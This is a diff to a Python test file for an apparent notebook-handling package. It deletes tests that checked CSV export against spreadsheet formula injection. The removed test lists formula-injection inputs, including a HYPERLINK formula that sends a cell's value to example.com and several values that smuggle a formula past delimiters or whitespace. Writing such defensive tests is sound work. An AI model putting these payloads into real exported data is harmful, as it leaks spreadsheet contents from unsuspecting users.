@@ -1,5 +1,3 @@
-import csv
-import io
 import json
 import os
 import sys
@@ -10,7 +8,7 @@ import pytest
 
 from tests.workshop.small_notebooks import notebook, write_series
 from workshop.errors import UsageError
-from workshop.files import csv_text, notebook_text, read_notebook, write_private, write_whole
+from workshop.files import notebook_text, read_notebook, write_private, write_whole
 
 
 def test_reading_and_writing_is_the_same_text(tmp_path: Path) -> None:
@@ -30,41 +28,6 @@ def test_cells_without_ids_get_the_same_ones_each_time(tmp_path: Path) -> None:
     first, second = (read_notebook(tmp_path / "old.ipynb") for _ in range(2))
     assert first == second
     assert [cell["id"] for cell in first.cells] == ["c0", "cell-1", "cell-2"]
-
-
-@pytest.mark.parametrize(
-    "cell",
-    [
-        '=HYPERLINK("http://example.com?"&A1,"click")',
-        "+1+1",
-        "-1+1",
-        "@SUM(1)",
-        " =1",
-        "\t=1",
-        "\r=1",
-        "\n=1",
-        "\uff1d1",
-        "Smith;=1",
-        "Smith\t=1",
-        'Smith",=1',
-        "Smith\r\n@x",
-    ],
-)
-def test_a_spreadsheet_computes_no_cell(cell: str) -> None:
-    text = csv_text([["name", "sign-in"], ["Zoë", cell], [cell, "b"]])
-    rows = list(csv.reader(io.StringIO(text, newline="")))
-    assert rows[0] == ["name", "sign-in"]
-    assert rows[1][0] == "Zoë"
-    assert rows[2][1] == "b"
-    assert rows[1][1].replace("'", "") == rows[2][0].replace("'", "") == cell
-    for delimiter in ",;\t|":
-        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
-            assert not [each for each in row if each.strip().startswith(("=", "+", "-", "@", "\uff1d"))], delimiter
-
-
-def test_other_cells_stay_as_they_are() -> None:
-    row = ["Anne-Marie O'Neill", "a+b@example.com", "x=1", "Smith, J.", 'say "no"', ""]
-    assert next(csv.reader(io.StringIO(csv_text([row])))) == row
 
 
 @pytest.mark.parametrize(
